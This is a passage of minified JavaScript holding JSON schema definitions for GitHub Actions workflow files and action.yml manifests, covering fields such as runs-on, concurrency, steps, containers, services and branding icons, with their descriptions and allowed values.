update.",type:"non-empty-string",required:!0},if:"snapshot-if",version:{description:"The desired major version updates upon a new custom image version creation.",type:"non-empty-string"}}}},"snapshot-if":{context:["github","inputs","vars","needs","strategy","matrix"],description:"Use the if conditional to prevent a snapshot from being taken unless a condition is met. Any supported context and expression can be used to create a conditional. Expressions in an `if` conditional do not require the bracketed expression syntax. When you use expressions in an `if` conditional, you may omit the expression syntax because GitHub automatically evaluates the `if` conditional as an expression.",string:{}},"runs-on":{description:"Use `runs-on` to define the type of machine to run the job on.\n* The destination machine can be either a GitHub-hosted runner, larger runner, or a self-hosted runner.\n* You can target runners based on the labels assigned to them, or their group membership, or a combination of these.\n* You can provide `runs-on` as a single string or as an array of strings.\n* If you specify an array of strings, your workflow will execute on any runner that matches all of the specified `runs-on` values.\n* If you would like to run your workflow on multiple machines, use `jobs.<job_id>.strategy`.",context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","sequence-of-non-empty-string","runs-on-mapping"]},"runs-on-mapping":{mapping:{properties:{group:{description:"The group from which to select a runner.",type:"non-empty-string"},labels:"runs-on-labels"}}},"runs-on-labels":{description:"The label by which to filter for available runners.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"job-env":{description:"A map of variables that are available to all steps in the job.",context:["github","inputs","vars","needs","strategy","matrix","secrets"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"workflow-concurrency":{description:`Concurrency ensures that only a single job or workflow using the same concurrency group will run at a time. A concurrency group can be any string or expression.

You can also specify \`concurrency\` at the job level.

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#concurrency)`,context:["github","inputs","vars"],"one-of":["string","concurrency-mapping"]},"job-concurrency":{description:"Concurrency ensures that only a single job using the same concurrency group will run at a time. A concurrency group can be any string or expression. The expression can use any context except for the `secrets` context.\n\nYou can also specify `concurrency` at the workflow level.",context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","concurrency-mapping"]},"concurrency-mapping":{description:`Concurrency ensures that only a single job or workflow using the same concurrency group will run at a time. A concurrency group can be any string or expression.

You can also specify \`concurrency\` at the job level.

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#concurrency)`,mapping:{properties:{group:{type:"non-empty-string",required:!0,description:"When a concurrent job or workflow is queued, if another job or workflow using the same concurrency group in the repository is in progress, the queued job or workflow will be `pending`. Any previously pending job or workflow in the concurrency group will be canceled. To also cancel any currently running job or workflow in the same concurrency group, specify `cancel-in-progress: true`."},"cancel-in-progress":{type:"boolean",description:"To cancel any currently running job or workflow in the same concurrency group, specify cancel-in-progress: true."},queue:{type:"concurrency-queue",description:"The queuing mode for the concurrency group. When set to `max`, workflows or jobs will wait in a queue for the concurrency group up to the maximum queue length. Default: `single` meaning at most one item can be pending."}}}},"concurrency-queue":{"allowed-values":["single","max"]},"job-environment":{description:"The environment that the job references. All environment protection rules must pass before a job referencing the environment is sent to a runner.",context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","job-environment-mapping"]},"job-environment-mapping":{mapping:{properties:{name:{type:"job-environment-name",required:!0},url:{type:"string-runner-context-no-secrets",description:"The environment URL, which maps to `environment_url` in the deployments API."},deployment:{type:"boolean",description:"Whether to create a deployment record for this environment. Defaults to true."}}}},"job-environment-name":{description:"The name of the environment used by the job.",context:["github","inputs","vars","needs","strategy","matrix"],string:{}},"job-defaults":{description:"A map of default settings that will apply to all steps in the job. You can also set default settings for the entire workflow.",mapping:{properties:{run:"job-defaults-run"}}},"job-defaults-run":{context:["github","inputs","vars","strategy","matrix","needs","env"],mapping:{properties:{shell:"shell","working-directory":"working-directory"}}},"job-outputs":{description:"A map of outputs for a called workflow. Called workflow outputs are available to all downstream jobs in the caller workflow. Each output has an identifier, an optional `description,` and a `value`. The `value` must be set to the value of an output from a job within the called workflow.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string-runner-context"}},steps:{description:"A job contains a sequence of tasks called `steps`. Steps can run commands, run setup tasks, run an action in your repository, a public repository, or an action published in a Docker registry, wait for background steps to complete, or cancel a background step. Not all steps run actions, but all actions run as a step. Each step runs in its own process in the runner environment and has access to the workspace and filesystem. Because steps run in their own process, changes to environment variables are not preserved between steps. GitHub provides built-in steps to set up and complete a job.",sequence:{"item-type":"steps-item"}},"steps-item":{"one-of":["run-step","regular-step","wait-step","wait-all-step","cancel-step","parallel-step"]},"run-step":{mapping:{properties:{name:"step-name",id:"step-id",if:"step-if","timeout-minutes":"step-timeout-minutes",run:{type:"string-steps-context",description:"Runs command-line programs using the operating system's shell. If you do not provide a `name`, the step name will default to the text specified in the `run` command. Commands run using non-login shells by default. You can choose a different shell and customize the shell used to run commands. Each `run` keyword represents a new process and shell in the virtual environment. When you provide multi-line commands, each line runs in the same shell.",required:!0},"continue-on-error":"step-continue-on-error",env:"step-env","working-directory":"string-steps-context",shell:"shell",background:"step-background"}}},"regular-step":{mapping:{properties:{name:"step-name",id:"step-id",if:"step-if","continue-on-error":"step-continue-on-error","timeout-minutes":"step-timeout-minutes",uses:{type:"step-uses",required:!0},with:"step-with",env:"step-env",background:"step-background"}}},"wait-step":{mapping:{properties:{name:"step-name",id:"step-id","continue-on-error":"step-continue-on-error",wait:{type:"step-wait-target",required:!0}}}},"wait-all-step":{mapping:{properties:{name:"step-name",id:"step-id","continue-on-error":"step-continue-on-error","wait-all":{type:"step-wait-all-value",required:!0}}}},"cancel-step":{mapping:{properties:{name:"step-name",id:"step-id","continue-on-error":"step-continue-on-error",cancel:{type:"step-cancel-target",required:!0}}}},"parallel-step":{mapping:{properties:{parallel:{type:"parallel-steps",required:!0,description:"Run a group of steps concurrently. All steps in the parallel block run as background steps and the workflow waits for all of them to complete before continuing."}}}},"parallel-steps":{sequence:{"item-type":"steps-item"}},"step-uses":{description:"Selects an action to run as part of a step in your job. An action is a reusable unit of code. You can use an action defined in the same repository as the workflow, a public repository, a [private repository with access enabled](https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/enabling-features-for-your-repository/managing-github-actions-settings-for-a-repository#allowing-access-to-components-in-a-private-repository), or in a published Docker container image.",string:{"require-non-empty":!0}},"step-background":{boolean:{},description:"When set to true, runs this step in the background. The workflow continues to the next step immediately without waiting for the background step to finish."},"step-wait-target":{description:"The step ID or IDs of background steps to wait for.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"step-wait-all-value":{description:"Wait for all prior background steps to complete. Use as a bare key (`wait-all:`) or with a boolean value.","one-of":["null","boolean"]},"step-cancel-target":{description:"The step ID of a background step to cancel.",string:{"require-non-empty":!0}},"step-continue-on-error":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],boolean:{},description:"Prevents a job from failing when a step fails. Set to `true` to allow a job to pass when this step fails."},"step-id":{string:{"require-non-empty":!0},description:"A unique identifier for the step. You can use the `id` to reference the step in contexts."},"step-if":{context:["github","inputs","vars","needs","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],description:"Use the `if` conditional to prevent a step from running unless a condition is met. Any supported context and expression can be used to create a conditional. Expressions in an `if` conditional do not require the bracketed expression syntax. When you use expressions in an `if` conditional, you may omit the expression syntax because GitHub automatically evaluates the `if` conditional as an expression.",string:{}},"step-if-result":{context:["github","inputs","vars","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],"one-of":["null","boolean","number","string","sequence","mapping"]},"step-env":{description:"Sets variables for steps to use in the runner environment. You can also set variables for the entire workflow or a job.",context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"step-name":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],string:{},description:"A name for your step to display on GitHub."},"step-timeout-minutes":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],number:{},description:"The maximum number of minutes to run the step before killing the process."},"step-with":{description:"A map of the input parameters defined by the action. Each input parameter is a key/value pair. Input parameters are set as variables. When you specify an input in a workflow file or use a default input value, GitHub creates a variable for the input with the name `INPUT_<VARIABLE_NAME>`. The variable created converts input names to uppercase letters and replaces spaces with `_`.",context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},container:{description:`A container to run any steps in a job that don't already specify a container. If you have steps that use both script and container actions, the container actions will run as sibling containers on the same network with the same volume mounts.

If you do not set a container, all steps will run directly on the host specified by runs-on unless a step refers to an action configured to run in a container.`,context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","container-mapping"]},"container-mapping":{mapping:{properties:{image:{type:"non-empty-string",description:"Use `jobs.<job_id>.container.image` to define the Docker image to use as the container to run the action. The value can be the Docker Hub image or a registry name."},options:{type:"string",description:"Use `jobs.<job_id>.container.options` to configure additional Docker container resource options."},env:"container-env",ports:{type:"sequence-of-non-empty-string",description:"Use `jobs.<job_id>.container.ports` to set an array of ports to expose on the container."},volumes:{type:"sequence-of-non-empty-string",description:"Use `jobs.<job_id>.container.volumes` to set an array of volumes for the container to use. You can use volumes to share data between services or other steps in a job. You can specify named Docker volumes, anonymous Docker volumes, or bind mounts on the host."},credentials:"container-registry-credentials"}}},services:{description:"Additional containers to host services for a job in a workflow. These are useful for creating databases or cache services like redis. The runner on the virtual machine will automatically create a network and manage the life cycle of the service containers. When you use a service container for a job or your step uses container actions, you don't need to set port information to access the service. Docker automatically exposes all ports between containers on the same network. When both the job and the action run in a container, you can directly reference the container by its hostname. The hostname is automatically mapped to the service name. When a step does not use a container action, you must access the service using localhost and bind the ports.",context:["github","inputs","vars","needs","strategy","matrix"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"services-container"}},"services-container":{context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","service-container-mapping"]},"container-registry-credentials":{description:"If the image's container registry requires authentication to pull the image, you can use `jobs.<job_id>.container.credentials` to set a map of the username and password. The credentials are the same values that you would provide to the `docker login` command.",context:["github","inputs","vars","secrets","env"],mapping:{properties:{username:"non-empty-string",password:"non-empty-string"}}},"container-env":{description:"Use `jobs.<job_id>.container.env` to set a map of variables in the container.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string-runner-context"}},"non-empty-string":{string:{"require-non-empty":!0}},"sequence-of-non-empty-string":{sequence:{"item-type":"non-empty-string"}},"sequence-of-string":{sequence:{"item-type":"string"}},"boolean-needs-context":{context:["github","inputs","vars","needs"],boolean:{}},"number-needs-context":{context:["github","inputs","vars","needs"],number:{}},"string-needs-context":{context:["github","inputs","vars","needs"],string:{}},"scalar-needs-context":{context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","boolean","number"]},"scalar-needs-context-with-secrets":{context:["github","inputs","vars","needs","secrets","strategy","matrix"],"one-of":["string","boolean","number"]},"boolean-strategy-context":{context:["github","inputs","vars","needs","strategy","matrix"],boolean:{}},"number-strategy-context":{context:["github","inputs","vars","needs","strategy","matrix"],number:{}},"string-strategy-context":{context:["github","inputs","vars","needs","strategy","matrix"],string:{}},"boolean-steps-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],boolean:{}},"number-steps-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],number:{}},"string-runner-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env"],string:{}},"string-runner-context-no-secrets":{context:["github","inputs","vars","needs","strategy","matrix","steps","job","runner","env"],string:{}},"string-steps-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],string:{}},shell:{string:{"require-non-empty":!0},description:"Use `shell` to override the default shell settings in the runner's operating system. You can use built-in shell keywords, or you can define a custom set of shell options. The shell command that is run internally executes a temporary file that contains the commands specified in `run`."},"working-directory":{string:{"require-non-empty":!0},description:"The `working-directory` keyword specifies the working directory where the command is run."},"cron-mapping":{mapping:{properties:{cron:{type:"cron-pattern",required:!0},timezone:"timezone-string"}}},"cron-pattern":{description:"A cron expression that represents a schedule. A scheduled workflow will run at most once every 5 minutes.",string:{"require-non-empty":!0}},"timezone-string":{description:"A string that represents the time zone a scheduled workflow will run relative to in IANA format (e.g. 'America/New_York' or 'Europe/London'). If omitted, the workflow will run relative to midnight UTC.",string:{"require-non-empty":!0}},"service-container-mapping":{mapping:{properties:{image:{type:"non-empty-string",description:"The Docker image to use as the container. The value can be the Docker Hub image or a registry name."},options:{type:"string",description:"Additional Docker container resource options."},env:"container-env",ports:{type:"sequence-of-non-empty-string",description:"An array of ports to expose on the container."},volumes:{type:"sequence-of-non-empty-string",description:"An array of volumes for the container to use. You can use volumes to share data between services or other steps in a job. You can specify named Docker volumes, anonymous Docker volumes, or bind mounts on the host."},credentials:"container-registry-credentials",entrypoint:{type:"string",description:"Override the default ENTRYPOINT in the service container image."},command:{type:"string",description:"Override the default CMD in the service container image."}}}}}};var Yw={source:"@actions/workflow-parser@0.3.61 dist/action-v1.0.min.json (MIT)",definitions:{"action-root":{description:"Action file",mapping:{properties:{name:"string",description:"string",inputs:"inputs",outputs:"outputs",runs:"runs"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"action-root-strict":{description:`GitHub Action manifest file (action.yml/action.yaml) that defines an action's metadata, inputs, outputs, and execution configuration.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions)`,mapping:{properties:{name:{type:"non-empty-string",required:!0,description:`The name of your action. GitHub displays the name in the Actions tab to help visually identify actions in each job.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#name)`},description:{type:"string",required:!0,description:`A short description of the action. GitHub displays this description in the Actions Marketplace.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#description)`},author:{type:"string",description:`The name of the action's author.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#author)`},inputs:"inputs-strict",outputs:"outputs",runs:{type:"runs-strict",required:!0},branding:"branding"}}},inputs:{mapping:{"loose-key-type":"non-empty-string","loose-value-type":"input"}},"inputs-strict":{description:`Input parameters allow you to specify data that the action expects to use during runtime. GitHub stores input parameters as environment variables. Inputs ids with uppercase letters are converted to lowercase during runtime.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputs)`,mapping:{"loose-key-type":"non-empty-string","loose-value-type":"input-strict"}},input:{mapping:{properties:{default:"input-default-context"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"input-strict":{description:"An input parameter for this action.",mapping:{properties:{description:{type:"string",description:`A string description of the input parameter.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddescription)`},required:{type:"boolean",description:`A boolean to indicate whether the action requires the input parameter. Set to true when the parameter is required.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_idrequired)`},default:{type:"input-default-context",description:`A string representing the default value. The default value is used when an input parameter isn't specified in a workflow file.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddefault)`},deprecationMessage:{type:"string",description:`A string shown to users using the deprecated input, warning them that the input is deprecated and mentioning any alternatives.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddeprecationmessage)`}},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"input-default-context":{description:`A string representing the default value. The default value is used when an input parameter isn't specified in a workflow file.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddefault)`,context:["github","strategy","matrix","job","runner","hashFiles(1,255)"],string:{}},outputs:{description:`Output parameters allow you to declare data that an action sets. Actions that run later in a workflow can use the output data set in previously run actions.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputs-for-composite-actions)`,mapping:{"loose-key-type":"non-empty-string","loose-value-type":"output-definition"}},"output-definition":{description:"An output parameter for this action.",mapping:{properties:{description:{type:"string",description:`A string description of the output parameter.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_iddescription)`},value:{type:"output-value",description:`The value that the output parameter will be mapped to. You can set this to a string or an expression with context.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_idvalue)`}}}},"output-value":{description:`The value that the output parameter will be mapped to. You can set this to a string or an expression with context.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_idvalue)`,context:["github","strategy","matrix","steps","inputs","job","runner","env"],string:{}},"runs-if":{description:"Condition to control when this action's pre or post script runs.",context:["runner","github","job","strategy","matrix","env","inputs","always(0,0)","success(0,0)","failure(0,0)","cancelled(0,0)","hashFiles(1,255)"],string:{}},runs:{"one-of":["container-runs","node-runs","composite-runs","plugin-runs"]},"runs-strict":{description:`Specifies whether this is a JavaScript action, a composite action, or a Docker container action and how the action is executed.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,"one-of":["container-runs-strict","node-runs-strict","composite-runs-strict"]},"plugin-runs":{mapping:{properties:{plugin:"non-empty-string"}}},"container-runs":{mapping:{properties:{using:"non-empty-string",image:"non-empty-string",entrypoint:"non-empty-string",args:"container-runs-args",env:"container-runs-env","pre-entrypoint":"non-empty-string","pre-if":"non-empty-string","post-entrypoint":"non-empty-string","post-if":"non-empty-string"}}},"container-runs-args":{description:`An array of strings that define the inputs for a Docker container. Inputs can include hardcoded strings. GitHub passes the args to the container's ENTRYPOINT when the container starts up.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsargs)`,sequence:{"item-type":"container-runs-context"}},"container-runs-env":{description:`Specifies a key/value map of environment variables to set in the container environment.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsenv)`,context:["inputs"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"container-runs-context":{context:["inputs"],string:{}},"node-runs":{mapping:{properties:{using:"non-empty-string",main:"non-empty-string",pre:"non-empty-string","pre-if":"non-empty-string",post:"non-empty-string","post-if":"non-empty-string"}}},"composite-runs":{mapping:{properties:{using:"non-empty-string",steps:"composite-steps"}}},"container-runs-strict":{description:`Configuration for Docker container actions.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,mapping:{properties:{using:{type:"using",required:!0,description:`The runtime used to execute the action. Must be docker for Docker container actions.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)`},image:{type:"non-empty-string",required:!0,description:`The Docker image to use as the container to run the action. The value can be the Docker base image name, a local Dockerfile in your repository, or a public image in Docker Hub or another registry.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsimage)`},entrypoint:{type:"non-empty-string",description:`Overrides the Docker ENTRYPOINT in the Dockerfile, or sets it if one wasn't already specified.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsentrypoint)`},args:"container-runs-args",env:"container-runs-env","pre-entrypoint":{type:"non-empty-string",description:`Allows you to run a script before the entrypoint action begins.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-entrypoint)`},"pre-if":{type:"runs-if",description:`Allows you to define conditions for the pre: action execution. The pre: action will only run if the conditions in pre-if are met. If not set, then pre-if defaults to always().

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-if)`},"post-entrypoint":{type:"non-empty-string",description:`Allows you to run a cleanup script once the runs.entrypoint action has completed.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-entrypoint)`},"post-if":{type:"runs-if",description:`Allows you to define conditions for the post: action execution. The post: action will only run if the conditions in post-if are met. If not set, then post-if defaults to always().

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-if)`}}}},"node-runs-strict":{description:`Configuration for JavaScript actions executed with Node.js.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,mapping:{properties:{using:{type:"using",required:!0,description:`The runtime used to execute the action. Use node20 or node24 for JavaScript actions.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)`},main:{type:"non-empty-string",required:!0,description:`The file that contains your action code. The runtime specified in using executes this file.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsmain)`},pre:{type:"non-empty-string",description:`Allows you to run a script at the start of a job, before the main: action begins. You can use pre: to run prerequisite setup scripts.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre)`},"pre-if":{type:"runs-if",description:`Allows you to define conditions for the pre: action execution. The pre: action will only run if the conditions in pre-if are met. If not set, then pre-if defaults to always().

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-if)`},post:{type:"non-empty-string",description:`Allows you to run a script at the end of a job, once the main: action has completed. You can use post: to run cleanup scripts.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost)`},"post-if":{type:"runs-if",description:`Allows you to define conditions for the post: action execution. The post: action will only run if the conditions in post-if are met. If not set, then post-if defaults to always().

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-if)`}}}},"composite-runs-strict":{description:`Configuration for composite actions that run multiple steps.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,mapping:{properties:{using:{type:"using",required:!0,description:`The runtime used to execute the action. Must be composite for composite actions.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)`},steps:{type:"composite-steps",required:!0}}}},"composite-steps":{description:`The steps that you plan to run in this action. These can be either run steps or uses steps.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runssteps)`,sequence:{"item-type":"composite-step"}},"composite-step":{description:"A step within a composite action.","one-of":["run-step","uses-step"]},"run-step":{description:`Runs a command-line program using the operating system's shell.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsrun)`,mapping:{properties:{name:{type:"string-steps-context",description:`A name for your step to display on GitHub.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsname)`},id:{type:"non-empty-string",description:`A unique identifier for the step. You can use the id to reference the step in contexts.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsid)`},if:{type:"step-if",description:`You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)`},run:{type:"string-steps-context",required:!0,description:`The command you want to run. This can be inline or a script in your action repository.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsrun)`},shell:{type:"string-steps-context",required:!0,description:`The shell where you want to run the command. Any shell supported by the runner can be used. Required if run is set.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsshell)`},env:"step-env","continue-on-error":{type:"boolean-steps-context",description:`Prevents the action from failing when a step fails. Set to true to allow the action to pass when this step fails.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepscontinue-on-error)`},"working-directory":{type:"string-steps-context",description:`Specifies the working directory where the command is run.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsworking-directory)`}}}},"uses-step":{description:`Runs another action as part of a step in your action.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsuses)`,mapping:{properties:{name:{type:"string-steps-context",description:`A name for your step to display on GitHub.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsname)`},id:{type:"non-empty-string",description:`A unique identifier for the step. You can use the id to reference the step in contexts.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsid)`},if:{type:"step-if",description:`You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)`},uses:{type:"non-empty-string",required:!0,description:`Selects an action to run as part of a step in your action. An action is a reusable unit of code.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsuses)`},with:"step-with",env:"step-env","continue-on-error":{type:"boolean-steps-context",description:`Prevents the action from failing when a step fails. Set to true to allow the action to pass when this step fails.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepscontinue-on-error)`}}}},"string-steps-context":{context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],string:{}},"boolean-steps-context":{context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],boolean:{}},"step-env":{description:`Sets variables for steps to use in the runner environment. You can also set variables for the entire action.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsenv)`,context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"step-if":{description:`You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)`,context:["github","inputs","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],string:{}},"step-with":{description:`A map of the input parameters defined by the action. Each input parameter is a key/value pair.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepswith)`,context:["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},branding:{description:`You can use a color and Feather icon to create a badge to personalize and distinguish your action in GitHub Marketplace.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#branding)`,mapping:{properties:{icon:{type:"branding-icon",description:`The name of the v4.28.0 Feather icon to use.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingicon)`},color:{type:"branding-color",description:`The background color of the badge.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingcolor)`}}}},"branding-icon":{description:`The name of the v4.28.0 Feather icon to use. Brand icons are omitted as well as: coffee, columns, divide-circle, divide-square, divide, frown, hexagon, key, meh, mouse-pointer, smile, tool, x-octagon.

[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingicon)`,"allowed-values":["activity","airplay","alert-circle","alert-octagon","alert-triangle","align-center","align-justify","align-left","align-right","anchor","aperture","archive","arrow-down-circle","arrow-down-left","arrow-down-right","arrow-down","arrow-left-circle","arrow-left","arrow-right-circle","arrow-right","arrow-up-circle","arrow-up-left","arrow-up-right","arrow-up","at-sign","award","bar-chart-2","bar-chart","battery-charging","battery","bell-off","bell","bluetooth","bold","book-open","book","bookmark","box","briefcase","calendar","camera-off","camera","cast","check-circle","check-square","check","chevron-down","chevron-left","chevron-right","chevron-up","chevrons-down","chevrons-left","chevrons-right","chevrons-up","circle","clipboard","clock","cloud-drizzle","cloud-lightning","cloud-off","cloud-rain","cloud-snow","cloud","code","command","compass","copy","corner-down-left","corner-down-right","corner-left-down","corner-left-up","corner-right-down","corner-right-up","corner-up-left","corner-up-right","cpu","credit-card","crop","crosshair","database","delete","disc","dollar-sign","download-cloud","download","droplet","edit-2","edit-3","edit","external-link","eye-off","eye","fast-forward","feather","file-minus","file-plus","file-text","file","film","filter","flag","folder-minus","folder-plus","folder","gift","git-branch","git-commit","git-merge","git-pull-request","globe","grid","hard-drive","hash","headphones","heart","help-circle","home","image","inbox","info","italic","layers","layout","life-buoy","link-2","link","list","loader","lock","log-in","log-out","mail","map-pin","map","maximize-2","maximize","menu","message-circle","message-square","mic-off","mic","minimize-2","minimize","minus-circle","minus-square","minus","monitor","moon","more-horizontal","more-vertical","move","music","navigation-2","navigation","octagon","package","paperclip","pause-circle","pause","percent","phone-call","phone-forwarded","phone-incoming","phone-missed","phone-off","phone-outgoing","phone","pie-chart","play-circle","play","plus-circle","plus-square","plus","pocket","power","printer","radio","refresh-ccw","refresh-cw","repeat","rewind","rotate-ccw","rotate-cw","rss","save","scissors","search","send","server","settings","share-2","share","shield-off","shield","shopping-bag","shopping-cart","shuffle","sidebar","skip-back","skip-forward","slash","sliders","smartphone","speaker","square","star","stop-circle","sun","sunrise","sunset","tablet","tag","target","terminal","thermometer","thumbs-down","thumbs-up","toggle-left","toggle-right","trash-2","trash","trending-down","trending-up","triangle","truck","tv","type","umbrella","underline","unlock","upload-cloud","upload","user-check","user-minus","user-plus","user-x","user","users","video-off","video","voicemail","volume-1","volume-2","volume-x","volume","watch","wifi-off","wifi","wind","x-circle","x-square","x","zap-off","zap","zoom-in","zoom-out"]},"branding-color":{description:`The background color of the badge.

